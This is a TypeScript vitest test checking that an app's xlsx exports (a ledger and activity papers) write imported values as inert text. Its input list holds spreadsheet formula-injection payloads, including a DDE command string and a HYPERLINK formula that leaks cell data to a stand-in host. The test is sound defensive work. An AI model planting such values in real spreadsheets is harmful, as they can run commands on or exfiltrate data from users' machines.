import JSZip from 'jszip';
import { expect, test } from 'vitest';
import { newId } from '#shared/ids.ts';
import { openOffice } from '#tests/harness/actors.ts';
import { startApp } from '#tests/harness/app.ts';
import { readXlsx } from '#tests/harness/office.ts';
import { papers } from './documents-catalogue.ts';

/** What came in from a file goes out in sheets: whatever a cell begins with, it is text there and runs nowhere. */

const app = await startApp();
const evil = ["=cmd|'/C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A2)', '=HYPERLINK("http://x.example/?"&A1)', '<b>联学</b>'];

test('every sheet that is written: 台账 and the papers of an activity', async () => {
  const office = await openOffice(app, '审计署武汉特派办');
  const { client, headers } = await office.person('吴常青', { posts: [{ post: 'committee' }] });
  const cases = evil.map((text, at) => ({ id: `e${at}`, theme: text, held_on: '2023-05-01', host: { unit: `${text}局`, branch: null }, partners: [{ unit: `${text}公司`, branch: text }], place: text, forms: [text], problems_discussed: [text], outcomes: [text], publicity: [text] }));
  await client.import.cases({ commandId: newId(), batchId: newId(), name: '=1.jsonl', cases });
  const { rows } = await client.activity.list({ limit: 100 });
  const sheets = papers.filter(({ model }) => model.kind === 'xlsx').map(({ key }) => key);
  const told = new Set<string>();
  let written = 0;
  for (const path of ['ledger.xlsx', ...rows.flatMap(({ id }) => sheets.map((key) => `${id}/${key}`))]) {
    const answer = await app.ask(`/papers/${path}`, { headers });
    if (answer.status === 404) continue;
    expect(answer.status).toBe(200);
    written += 1;
    const bytes = new Uint8Array(await answer.arrayBuffer());
    const zip = await JSZip.loadAsync(bytes);
    for (const name of Object.keys(zip.files).filter((part) => part.startsWith('xl/worksheets/'))) expect((await zip.file(name)?.async('string')) ?? '').not.toMatch(/<f[\s>/]|<hyperlink/u);
    for (const cell of Object.values(await readXlsx(bytes)).flat(2)) if (typeof cell === 'string') told.add(cell);
  }
  expect(written).toBeGreaterThan(1);
  expect(evil.filter((text) => !told.has(text))).toEqual([]);
}, 120_000);
